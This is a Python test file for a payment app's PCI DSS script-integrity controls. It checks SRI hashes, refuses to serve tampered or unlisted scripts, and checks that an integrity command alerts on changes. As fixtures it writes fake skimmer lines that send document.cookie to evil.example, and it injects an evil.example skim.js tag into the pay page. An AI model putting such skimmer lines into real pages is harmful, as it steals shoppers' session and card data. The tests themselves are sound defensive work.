"""Payment-page integrity (PCI DSS v4.0 6.4.3 and 11.6.1; requirement P2, P3).

6.4.3: a script whose bytes differ from static/js/inventory.json is not served; every script
tag carries the inventory's hash as Subresource Integrity; every file in static/js and in the
docs' inventory are the same set. 11.6.1: `check-integrity` records a baseline, and a change in
a security header or in the pay page's scripts makes it exit non-zero, print ALERT lines and
leave an `integrity.alert` audit event.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest
from jinja2 import ChoiceLoader, DictLoader

from payapp.assets import split_url
from payapp.db import get_session
from payapp.extensions import talisman
from payapp.integrity import join_parts, sri_hash
from payapp.models import AuditEvent

from ..conftest import audit_actions, csrf_from, submit_card

ROOT = Path(__file__).resolve().parents[2]  # the checkout

JS = ROOT / "static" / "js"
SCRIPTS_DOC = ROOT / "docs" / "security" / "scripts.md"
SCRIPT_TAG = re.compile(r"<script\b[^>]*>", re.IGNORECASE)


def inventory(app):
    return app.extensions["payapp.inventory"]


def script_name(src: str) -> str:
    """The inventory's name for a script tag's src: /assets/js/x.<fingerprint>.js -> js/x.js."""
    split = split_url(src)
    return split[0] if split else src.removeprefix("/static/")


def test_a_script_whose_bytes_differ_from_the_inventory_is_not_served(app, client, monkeypatch):
    inv = inventory(app)
    assert client.get("/static/js/pay.js").status_code == 200
    monkeypatch.setitem(inv.scripts["js/pay.js"], "sha384", "sha384-wrong")
    inv._verified.clear()
    assert client.get("/static/js/pay.js").status_code == 404
    for other in inv.scripts:
        if other != "js/pay.js":
            assert client.get(f"/static/{other}").status_code == 200, other


def test_changed_or_unlisted_script_files_are_not_served(app, client, tmp_path):
    """The same with the files themselves changed: a copy of static/ with pay.js altered and
    scripts added that the inventory does not know."""
    static = tmp_path / "static"
    shutil.copytree(ROOT / "static", static)
    (static / "js" / "pay.js").write_bytes((JS / "pay.js").read_bytes() + b"\nfetch('//evil');\n")
    for name in ("skimmer.js", "skimmer.mjs", "app.js.map.js"):
        (static / "js" / name).write_text("fetch('//evil.example/?'+document.cookie);\n")
    (static / "css" / "skimmer.js").write_text("alert(1);\n")
    app.static_folder = str(static)
    inventory(app)._verified.clear()
    for path in (
        "js/pay.js",
        "js/skimmer.js",
        "js/skimmer.mjs",
        "js/app.js.map.js",
        "css/skimmer.js",
    ):
        assert client.get(f"/static/{path}").status_code == 404, path
    assert client.get("/static/js/app.js").status_code == 200
    assert client.get("/static/css/app.css").status_code == 200


def test_a_script_with_an_upper_case_extension_is_not_served_either(app, client, tmp_path):
    static = tmp_path / "static"
    shutil.copytree(ROOT / "static", static)
    (static / "js" / "skimmer.JS").write_text("fetch('//evil.example/?'+document.cookie);\n")
    app.static_folder = str(static)
    response = client.get("/static/js/skimmer.JS")
    assert response.status_code == 404, response.mimetype


def page_types(app, client, admin, staff, link_factory):
    link, closed = link_factory(), link_factory()
    staff.post(
        f"/links/{closed.id}/cancel", data={"csrf_token": csrf_from(staff.get("/links").text)}
    )
    pages = {
        "pay page": client.get(link.path),
        "closed pay page": client.get(closed.path),
        "pay fragment": submit_card(client, link.path, nonce="cnon:card-nonce-declined"),
        "404": client.get("/pay/nope"),
        "login": client.get("/login"),
        "links": staff.get("/links"),
        "link detail": staff.get(f"/links/{link.id}"),
        "new link": staff.get("/links/new"),
        "account": staff.get("/account"),
        "audit": admin.get("/audit"),
        "security": admin.get("/security"),
    }
    users = admin.get("/users")
    if users.status_code == 200:
        pages["users"] = users
    return pages


def test_every_script_tag_on_every_page_type_carries_the_inventory_hash(
    app, client, admin, staff, link_factory
):
    inv = inventory(app)
    seen = set()
    for name, response in page_types(app, client, admin, staff, link_factory).items():
        for tag in SCRIPT_TAG.findall(response.text):
            src = re.search(r'src="([^"]+)"', tag)
            assert src, f"{name}: inline script {tag}"
            file = script_name(src[1])
            assert file in inv.scripts or file in inv.bundles, f"{name}: {src[1]} not inventoried"
            integrity = re.search(r'integrity="([^"]+)"', tag)
            assert integrity and integrity[1] == inv.sri(file), f"{name}: {tag}"
            assert client.get(src[1]).status_code == 200, src[1]
            seen.update(inv.bundles[file]["parts"] if file in inv.bundles else [file])
    assert seen == set(inv.scripts)  # every inventoried script is used somewhere


@pytest.mark.parametrize(
    "config_overrides",
    [
        {
            "SQUARE_ACCESS_TOKEN": "EAAAfake-render-only",
            "SQUARE_APPLICATION_ID": "sandbox-sq0idb-integrity",
            "SQUARE_LOCATION_ID": "LINTEGRITY",
            "SQUARE_ENVIRONMENT": "sandbox",
            "SQUARE_BASE_URL": "http://127.0.0.1:9",
        }
    ],
)
def test_in_square_mode_the_pay_page_loads_only_inventoried_scripts(app, client, link_factory):
    inv = inventory(app)
    external = {e["url"] for e in inv.external}
    page = client.get(link_factory().path)
    sources = [re.search(r'src="([^"]+)"', t)[1] for t in SCRIPT_TAG.findall(page.text)]
    assert sources[0] == "https://sandbox.web.squarecdn.com/v1/square.js"  # before pay.js
    own = [script_name(src) for src in sources[1:]]
    assert own == ["js/pay-square.js"]
    assert all(src in external for src in sources[:1])
    assert "js/demo-card.js" not in inv.bundles["js/pay-square.js"]["parts"]
    assert "js/pay.js" in inv.bundles["js/pay-square.js"]["parts"]


def test_every_script_file_is_inventoried_with_its_true_hash(app):
    inv = inventory(app)
    on_disk = {f"js/{p.name}" for p in JS.iterdir() if p.is_file() and p.name != "inventory.json"}
    assert on_disk == set(inv.scripts)
    for file, entry in inv.scripts.items():
        assert entry["sha384"] == sri_hash((ROOT / "static" / file).read_bytes()), file
        for key in ("name", "version", "source", "purpose", "approved_by", "approved_on"):
            assert entry.get(key), (file, key)


def test_every_bundle_is_inventoried_scripts_joined_with_its_true_hash(app):
    inv = inventory(app)
    assert {"js/pay-demo.js", "js/pay-square.js"} <= set(inv.bundles)
    for file, entry in inv.bundles.items():
        assert not (ROOT / "static" / file).exists(), file  # joined when served, never on disk
        assert entry["parts"] and set(entry["parts"]) <= set(inv.scripts), file
        joined = join_parts([(ROOT / "static" / p).read_bytes() for p in entry["parts"]])
        assert entry["sha384"] == sri_hash(joined), file
        for key in ("name", "version", "source", "purpose", "approved_by", "approved_on"):
            assert entry.get(key), (file, key)


def test_a_bundle_with_a_changed_part_is_not_served(app, client, link_factory, tmp_path):
    page = client.get(link_factory().path).text
    src = re.search(r'src="(/assets/js/pay-demo\.[^"]+)"', page)[1]
    assert client.get(src).status_code == 200
    static = tmp_path / "static"
    shutil.copytree(ROOT / "static", static)
    (static / "js" / "pay.js").write_bytes((JS / "pay.js").read_bytes() + b"\nfetch('//evil');\n")
    app.static_folder = str(static)
    inventory(app)._verified.clear()
    assert client.get(src).status_code == 404
    assert client.get(script_url(client, "js/app.js")).status_code == 200


def script_url(client, file: str) -> str:
    """Where the login page loads ``file`` from."""
    stem = Path(file).stem.replace(".", "\\.")
    login = client.get("/login").text
    return re.search(rf'src="(/assets/js/{stem}\.[0-9a-f]{{16}}\.js)"', login)[1]


def test_the_script_inventory_document_names_every_script(app):
    assert SCRIPTS_DOC.is_file(), f"{SCRIPTS_DOC.relative_to(ROOT)} is missing (PCI DSS 6.4.3)"
    doc = SCRIPTS_DOC.read_text(encoding="utf-8")
    inv = inventory(app)
    for file, entry in inv.scripts.items():
        assert Path(file).name in doc, file
        assert entry["sha384"] in doc or entry["version"] in doc, file
    for file, entry in inv.bundles.items():
        assert Path(file).name in doc and entry["sha384"] in doc, file
    for entry in inv.external:
        assert entry["url"] in doc, entry["url"]


# --- 11.6.1: check-integrity ---------------------------------------------------------------------


def check(app):
    with app.app_context():
        return app.test_cli_runner().invoke(args=["check-integrity"])


def test_check_integrity_records_a_baseline_then_sees_no_change(app):
    first = check(app)
    assert first.exit_code == 0 and "Recorded" in first.output
    second = check(app)
    assert second.exit_code == 0 and "No change" in second.output
    assert "integrity.alert" not in audit_actions(app)


def test_a_changed_security_header_makes_check_integrity_alert(app, monkeypatch):
    assert check(app).exit_code == 0
    # What a careless deploy would do: loosen the policy Talisman sends (its own copy of it).
    monkeypatch.setitem(
        talisman.content_security_policy, "script-src", "'self' https://evil.example"
    )
    result = check(app)
    assert result.exit_code != 0
    alerts = [line for line in result.output.splitlines() if line.startswith("ALERT:")]
    assert alerts and all("Content-Security-Policy" in a for a in alerts)
    assert "https://evil.example" in result.output
    with app.app_context():
        event = get_session().query(AuditEvent).filter_by(action="integrity.alert").one()
        assert "Content-Security-Policy" in event.detail


def test_a_script_added_to_the_pay_page_makes_check_integrity_alert(app, monkeypatch):
    assert check(app).exit_code == 0
    source, _, _ = app.jinja_loader.get_source(app.jinja_env, "pay/page.html")
    tampered = source.replace(
        "{% block scripts %}",
        '{% block scripts %}<script src="https://evil.example/skim.js"></script>',
        1,
    )
    assert tampered != source
    loader = ChoiceLoader([DictLoader({"pay/page.html": tampered}), app.jinja_env.loader])
    monkeypatch.setattr(app.jinja_env, "loader", loader)
    result = check(app)
    assert result.exit_code != 0
    assert "ALERT: script added to the pay page" in result.output
    assert "evil.example/skim.js" in result.output
    assert audit_actions(app).count("integrity.alert") == 1
